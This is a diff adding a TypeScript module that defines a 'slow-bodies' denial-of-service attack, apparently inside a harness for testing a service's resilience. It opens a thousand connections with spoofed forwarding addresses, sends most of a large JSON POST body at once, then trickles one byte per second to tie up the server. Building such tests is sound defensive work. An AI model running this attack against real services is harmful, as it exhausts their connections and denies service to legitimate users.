@@ -1,0 +1,35 @@
+import { setTimeout as wait } from "node:timers/promises";
+import { type Attack, attackerAddress, scaled } from "./attack.ts";
+import { countAndClose, openAll, requestHead } from "./raw-connection.ts";
+
+/** Announced, and what is sent of it at once. */
+const [announced, sentAtOnce] = [262_144, 240_000];
+
+/** A thousand connections from 250 addresses send most of a body of JSON at once and then a byte a second. */
+export const slowBodies: Attack = {
+  name: "slow-bodies",
+  async prepare(order) {
+    const beginning = `{"title":"${"a".repeat(sentAtOnce)}`;
+    return async () => {
+      const until = performance.now() + order.seconds * 1000;
+      const connections = await openAll(order.url, scaled(order, 1000));
+      // One after the other: each has to arrive before the next, as from a line that is not fast.
+      for (const [index, connection] of connections.entries())
+        await connection.send(
+          `${requestHead("POST", "/v1/reports", {
+            authorization: `Bearer ${order.siteKey}`,
+            "x-forwarded-for": attackerAddress(order, index % 250),
+            "content-type": "application/json",
+            "content-length": announced,
+            "idempotency-key": crypto.randomUUID(),
+          })}${beginning}`,
+          until,
+        );
+      while (performance.now() < until) {
+        for (const connection of connections) connection.trickle();
+        await wait(Math.max(0, Math.min(1000, until - performance.now())));
+      }
+      return countAndClose(connections);
+    };
+  },
+};
